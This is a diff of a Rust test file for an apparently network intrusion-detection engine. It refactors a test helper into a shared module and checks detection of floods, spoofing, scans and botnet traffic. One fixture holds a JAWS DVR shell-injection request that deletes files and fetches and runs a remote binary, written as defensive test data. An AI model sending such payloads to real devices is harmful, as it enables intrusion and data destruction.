@@ -3,10 +3,10 @@
 //! exactly what went over the wire.
 
 use etherparse::{ArpHardwareId, ArpOperation, ArpPacket, EtherType};
-use ward_core::{Alert, AlertCategory, Engine, EngineConfig, Timestamp, VecSink};
+use ward_core::{Alert, AlertCategory, Timestamp};
 
 mod common;
-use common::{tcp, udp, Mac, V4};
+use common::{ip, tcp, udp, Mac, Run, T0, V4};
 
 const ATK_MAC: Mac = [0x02, 0x42, 0xac, 0x11, 0x00, 0x66];
 const CAM_MAC: Mac = [0xc0, 0x56, 0xe3, 0x00, 0x00, 0x20];
@@ -16,7 +16,6 @@ const ATK: V4 = [192, 168, 1, 66];
 const CAM: V4 = [192, 168, 1, 20];
 const GW: V4 = [192, 168, 1, 1];
 const PHONE: V4 = [192, 168, 1, 30];
-const T0: i64 = 1_700_000_000_000_000; // µs
 
 fn arp(op: ArpOperation, smac: Mac, sip: V4, dmac: Mac, tip: V4) -> Vec<u8> {
     let eth_dst = if op == ArpOperation::REQUEST {
@@ -74,54 +73,6 @@ fn dhcp(
     p
 }
 
-struct Run {
-    engine: Engine,
-    sink: VecSink,
-}
-
-impl Run {
-    fn new() -> Self {
-        Self::with(None)
-    }
-    fn with(cfg: Option<serde_json::Value>) -> Self {
-        let dets = ward_detect::detectors(cfg.as_ref()).unwrap();
-        let cfg = EngineConfig {
-            emit_flows: Some(false),
-            ..Default::default()
-        };
-        Run {
-            engine: Engine::new(cfg, 9, dets),
-            sink: VecSink::default(),
-        }
-    }
-    fn at(&mut self, us: i64, frame: &[u8]) {
-        self.engine.process(
-            Timestamp(T0 + us),
-            1,
-            frame,
-            frame.len() as u32,
-            &mut self.sink,
-        );
-    }
-    fn alerts(mut self) -> Vec<(Timestamp, Alert)> {
-        self.engine.finish(&mut self.sink);
-        let out: Vec<(Timestamp, Alert)> = self
-            .sink
-            .0
-            .into_iter()
-            .filter_map(|e| e.alert.map(|a| (e.timestamp, a)))
-            .collect();
-        for (t, a) in &out {
-            eprintln!("{t} {} {} {}", a.category.as_str(), a.signature, a.summary);
-        }
-        out
-    }
-}
-
-fn ip(v: V4) -> std::net::IpAddr {
-    std::net::IpAddr::from(v)
-}
-
 /// Both sides introduce themselves by ARP, as on a real LAN.
 fn introduce(r: &mut Run, t: i64, who: &[(Mac, V4)]) {
     for (i, (m, a)) in who.iter().enumerate() {
@@ -147,7 +98,7 @@ fn syn_flood_is_one_alert_raised_within_a_second() {
         );
         r.at(1_000_000 + i * 1000, &f);
     }
-    let a = r.alerts();
+    let a = r.timed_alerts();
     let floods: Vec<_> = a
         .iter()
         .filter(|(_, a)| a.category == AlertCategory::Dos)
@@ -189,7 +140,7 @@ fn spoofed_flood_names_the_sender_by_its_mac() {
         );
         r.at(1_000_000 + i * 500, &f);
     }
-    let a = r.alerts();
+    let a = r.timed_alerts();
     let f = a
         .iter()
         .find(|(_, a)| a.signature == "tcp-syn-flood-spoofed")
@@ -258,7 +209,7 @@ fn vertical_scan_is_recon_and_browsing_is_quiet() {
             ),
         );
     }
-    let a = r.alerts();
+    let a = r.timed_alerts();
     assert_eq!(a.len(), 1, "{a:?}");
     assert_eq!(a[0].1.signature, "tcp-port-scan");
     assert_eq!(a[0].1.attacker, Some(ip(ATK)));
@@ -277,7 +228,7 @@ fn mirai_scanner_on_a_lan_device_is_recon_and_botnet() {
             &tcp((CAM_MAC, CAM, 41000), ([0xff; 6], dst, 23), seq, "S", b""),
         );
     }
-    let a = r.alerts();
+    let a = r.timed_alerts();
     assert!(a
         .iter()
         .any(|(_, a)| a.signature == "mirai-telnet-scan" && a.attacker == Some(ip(CAM))));
@@ -311,7 +262,7 @@ fn arp_poisoning_of_the_gateway_is_one_alert_naming_the_attacker() {
         12_000_010,
         &arp(ArpOperation::REPLY, PHONE_MAC, PHONE, GW_MAC, GW),
     );
-    let a = r.alerts();
+    let a = r.timed_alerts();
     assert_eq!(a.len(), 1, "{a:?}");
     let s = &a[0].1;
     assert_eq!(s.signature, "arp-spoofing");
@@ -389,7 +340,7 @@ fn a_dhcp_server_serving_clients_is_quiet_and_a_second_one_is_rogue() {
             &dhcp(2, 99, PHONE_MAC, [192, 168, 1, 200], Some(ATK), Some(ATK)),
         ),
     );
-    let a = r.alerts();
+    let a = r.timed_alerts();
     assert_eq!(a.len(), 1, "{a:?}");
     assert_eq!(a[0].1.signature, "rogue-dhcp-server");
     assert_eq!(a[0].1.attacker, Some(ip(ATK)));
@@ -405,7 +356,7 @@ fn jaws_exploit_request_is_an_exploit_alert() {
     r.at(20, &tcp(c, s, 101, "A", b""));
     let req = b"GET /shell?cd+/tmp;rm+-rf+*;wget+http://192.168.1.66/jaws;sh+/tmp/jaws HTTP/1.1\r\nHost: 192.168.1.20\r\nUser-Agent: Hello, World\r\n\r\n";
     r.at(30, &tcp(c, s, 101, "PA", req));
-    let a = r.alerts();
+    let a = r.timed_alerts();
     assert_eq!(a.len(), 1, "{a:?}");
     assert_eq!(a[0].1.signature, "jaws-dvr-shell-injection");
     assert_eq!(a[0].1.category, AlertCategory::Exploit);
@@ -428,7 +379,7 @@ fn mirai_c2_handshake_and_keepalives_are_a_botnet_session() {
         r.at(k * 5_000_000 + 50, &tcp(c2, bot, 5001, "PA", &[0, 0]));
         seq += 2;
     }
-    let a = r.alerts();
+    let a = r.timed_alerts();
     assert_eq!(a.len(), 1, "{a:?}");
     assert_eq!(a[0].1.signature, "mirai-c2-session");
     assert_eq!(a[0].1.attacker, Some(ip(CAM)));
@@ -442,7 +393,7 @@ fn config_is_strict_and_thresholds_apply() {
     assert!(ward_detect::detectors(Some(&missing)).is_err());
     // A SYN flood under a raised threshold stays quiet.
     let cfg = serde_json::json!({ "dos": { "syn_pps": 5000 } });
-    let mut r = Run::with(Some(cfg));
+    let mut r = Run::with(Some(&cfg));
     for i in 0..1000i64 {
         r.at(
             i * 1000,
@@ -455,7 +406,7 @@ fn config_is_strict_and_thresholds_apply() {
             ),
         );
     }
-    assert!(r.alerts().is_empty());
+    assert!(r.timed_alerts().is_empty());
 }
 
 #[test]
@@ -483,7 +434,7 @@ fn clockwork_keepalives_on_an_unknown_protocol_are_a_heartbeat_but_jittery_ones_
             r.at(t + 50, &tcp(remote, dev, 1, "A", b""));
             seq += 4;
         }
-        r.alerts()
+        r.timed_alerts()
     };
     let a = run(false);
     assert_eq!(a.len(), 1, "{a:?}");
@@ -511,7 +462,7 @@ fn irc_registration_on_any_port_is_possible_c2() {
         ),
     );
     r.at(400, &tcp(bot, srv, 40, "PA", b"JOIN #bots key\r\n"));
-    let a = r.alerts();
+    let a = r.timed_alerts();
     assert_eq!(a.len(), 1, "{a:?}");
     assert_eq!(a[0].1.signature, "irc-c2");
     assert_eq!(a[0].1.category, AlertCategory::Botnet);
@@ -539,7 +490,7 @@ fn login_form_guessing_is_bruteforce_and_a_repeated_post_is_not() {
             );
             r.at(t + 30, &tcp(c, s, 101, "PA", req.as_bytes()));
         }
-        r.alerts()
+        r.timed_alerts()
     };
     let a = run(true);
     assert_eq!(a.len(), 1, "{a:?}");
@@ -602,7 +553,7 @@ fn mangled_frames_never_panic() {
         }
         r.at(i * 100, &f);
     }
-    let _ = r.alerts();
+    let _ = r.timed_alerts();
 }
 
 // --- floods, reflection and LAN spoofing (the lab's `full2` attacks) -----------
@@ -688,7 +639,7 @@ fn reflection_is_traced_to_the_mac_that_forged_the_requests() {
             ),
         );
     }
-    let a = r.alerts();
+    let a = r.timed_alerts();
     let refl = a
         .iter()
         .find(|(_, a)| a.signature == "udp-reflection-amplification")
@@ -735,7 +686,7 @@ fn answers_to_a_devices_own_queries_are_not_reflection() {
             ),
         );
     }
-    let a = r.alerts();
+    let a = r.timed_alerts();
     assert!(dos_alerts(&a).is_empty(), "{a:?}");
 }
 
@@ -769,7 +720,7 @@ fn ack_and_rst_floods_are_stray_segment_floods() {
             &tcp(src, (PHONE_MAC, PHONE, 1883), i as u32, "R", b""),
         );
     }
-    let a = r.alerts();
+    let a = r.timed_alerts();
     let d = dos_alerts(&a);
     assert_eq!(d.len(), 2, "{a:?}");
     for ((t, al), (victim, port, s)) in d
@@ -803,7 +754,7 @@ fn http_request_flood_is_dos_and_browsing_is_not() {
             let req = b"GET / HTTP/1.1\r\nHost: cam\r\nUser-Agent: Mozilla/5.0\r\nConnection: close\r\n\r\n";
             r.at(t + 30, &tcp(c, s, 101, "PA", req));
         }
-        r.alerts()
+        r.timed_alerts()
     };
     let a = run(250, 3);
     let f = a
@@ -831,7 +782,7 @@ fn gratuitous_arp_storm_claiming_the_gateway_names_the_sender() {
     for i in 0..200i64 {
         r.at(1_000_000 + i * 20_000, &garp(ATK_MAC, GW));
     }
-    let a = r.alerts();
+    let a = r.timed_alerts();
     let storm = a
         .iter()
         .find(|(_, a)| a.signature == "gratuitous-arp-storm")
@@ -850,7 +801,7 @@ fn occasional_gratuitous_arps_are_quiet() {
     for i in 0..60i64 {
         r.at(1_000_000 + i * 1_000_000, &garp(PHONE_MAC, PHONE));
     }
-    assert!(r.alerts().is_empty());
+    assert!(r.timed_alerts().is_empty());
 }
 
 /// DHCP starvation: DISCOVERs with ever new client hardware addresses, all
@@ -903,7 +854,7 @@ fn dhcp_starvation_is_spoofing_by_the_sending_nic() {
             ),
         );
     }
-    let a = r.alerts();
+    let a = r.timed_alerts();
     let s = a
         .iter()
         .find(|(_, a)| a.signature == "dhcp-starvation")
@@ -941,7 +892,7 @@ fn dns_answer_race_blames_the_forger_in_either_order() {
         };
         r.at(1_000_300, first);
         r.at(1_000_600, second);
-        let a = r.alerts();
+        let a = r.timed_alerts();
         assert_eq!(a.len(), 1, "{a:?}");
         assert_eq!(a[0].1.signature, "dns-spoofing");
         assert_eq!(
@@ -970,7 +921,7 @@ fn duplicate_dns_answers_that_agree_are_quiet() {
     );
     r.at(1_000_300, &real);
     r.at(1_900_000, &real);
-    assert!(r.alerts().is_empty());
+    assert!(r.timed_alerts().is_empty());
 }
 
 /// A UDP flood is credited to the address sending most of it even while
@@ -1006,7 +957,7 @@ fn flood_attacker_is_the_majority_source_among_background_traffic() {
             );
         }
     }
-    let a = r.alerts();
+    let a = r.timed_alerts();
     let d = dos_alerts(&a);
     assert_eq!(d.len(), 1, "{a:?}");
     assert_eq!(d[0].1.signature, "udp-flood");
@@ -1042,7 +993,7 @@ fn a_second_flooder_of_the_same_victim_is_a_new_incident() {
             &tcp((SPK_MAC, forged, 3000), (CAM_MAC, CAM, 554), 1, "S", b""),
         );
     }
-    let a = r.alerts();
+    let a = r.timed_alerts();
     let d = dos_alerts(&a);
     assert_eq!(d.len(), 2, "{a:?}");
     assert_eq!(d[0].1.attacker, Some(ip(ATK)));
@@ -1077,7 +1028,7 @@ fn a_spoofed_flood_through_the_router_does_not_blame_the_router() {
             &tcp((GW_MAC, forged, 4000), (CAM_MAC, CAM, 80), 1, "S", b""),
         );
     }
-    let a = r.alerts();
+    let a = r.timed_alerts();
     let d = dos_alerts(&a);
     assert_eq!(d.len(), 1, "{a:?}");
     assert_eq!(d[0].1.signature, "tcp-syn-flood-spoofed");
@@ -1100,7 +1051,7 @@ fn snmp_reflection_from_the_internet_names_the_victim_only() {
             &udp((GW_MAC, reflector, 161), (CAM_MAC, CAM, 8080), &response),
         );
     }
-    let a = r.alerts();
+    let a = r.timed_alerts();
     let d = dos_alerts(&a);
     assert_eq!(d.len(), 1, "{a:?}");
     assert_eq!(d[0].1.signature, "udp-reflection-amplification");
@@ -1144,7 +1095,7 @@ fn a_flood_whose_majority_flickers_is_one_incident() {
             ),
         );
     }
-    let a = r.alerts();
+    let a = r.timed_alerts();
     let d = dos_alerts(&a);
     assert_eq!(d.len(), 1, "{a:?}");
 }
